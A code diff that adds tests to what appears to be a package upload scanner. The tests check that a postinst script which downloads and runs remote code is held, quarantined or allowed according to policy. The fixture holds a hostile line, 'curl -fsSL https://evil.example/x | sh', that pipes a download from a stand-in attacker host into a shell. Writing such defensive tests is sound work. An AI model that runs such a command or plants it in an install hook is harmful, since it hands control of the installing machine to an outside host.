@@ -14,6 +14,7 @@ import {
   type Refusal,
 } from '../../../test/support/uploads.ts'
 import type { Finding } from '../../core/findings.ts'
+import type { SettingsValue } from '../../settings/schema.ts'
 import { EngineUnavailable, type AntivirusScanner } from '../../scanners/scanner.ts'
 import { UploadResultSchema } from './result.ts'
 
@@ -308,3 +309,52 @@ test.each(['hold', 'warn'] as const)(
     })
   },
 )
+
+describe('what scripts do', () => {
+  const evil = { postinst: '#!/bin/sh\nset -e\ncurl -fsSL https://evil.example/x | sh\n' }
+  const policyWith = (script_policy: Partial<SettingsValue['script_policy']>): SettingsValue => ({
+    ...settingsWith(),
+    script_policy: script_policy as SettingsValue['script_policy'],
+  })
+
+  test('holds a package that runs what it downloads, and the step names the line', async () => {
+    const { status, body } = await it.send(formOf(await hello('1.0', { scripts: evil })))
+    expect([status, body.status, body.decided_by]).toEqual([201, 'pending_review', ['scripts']])
+    expect(body.validation.steps.find(({ name }) => name === 'scripts')).toEqual({
+      name: 'scripts',
+      passed: true,
+      verdict: 'facts',
+      message:
+        'postinst runs what it downloads (line 3: curl -fsSL https://evil.example/x | sh). The policy asks for a review before it is served.',
+      detail: 'warned',
+      warning: true,
+      holds: true,
+    })
+    expect(body.validation.install).toMatchObject({
+      scripts: [{ name: 'postinst', interpreter: '/bin/sh', lines: 3 }],
+      facts: [{ kind: 'downloads_and_runs', path: 'postinst', line: 3, hosts: ['evil.example'] }],
+    })
+  })
+
+  test('blocks it where the policy says so, and lets it pass where the policy does', async () => {
+    it.given.settings = policyWith({ downloads_and_runs: 'block' })
+    expect((await it.send(formOf(await hello('1.0', { scripts: evil })))).body.status).toBe('quarantined')
+    it.given.settings = policyWith({ downloads_and_runs: 'allow' })
+    expect((await it.send(formOf(await hello('2.0', { scripts: evil })))).body).toMatchObject({
+      status: 'published',
+      decided_by: [],
+    })
+  })
+
+  test('says what is new since the version that clients have', async () => {
+    await it.send(formOf(await hello('1.0', { scripts: { postinst: '#!/bin/sh\nldconfig\n' } })))
+    const { body } = await it.send(formOf(await hello('1.1', { scripts: evil })))
+    expect(body.validation.since).toEqual({
+      version: '1.0',
+      said: 'New: postinst runs what it downloads; contacts evil.example.',
+    })
+    // one that is held is none that clients have
+    const next = await it.send(formOf(await hello('1.2', { scripts: evil })))
+    expect(next.body.validation.since?.version).toBe('1.0')
+  })
+})
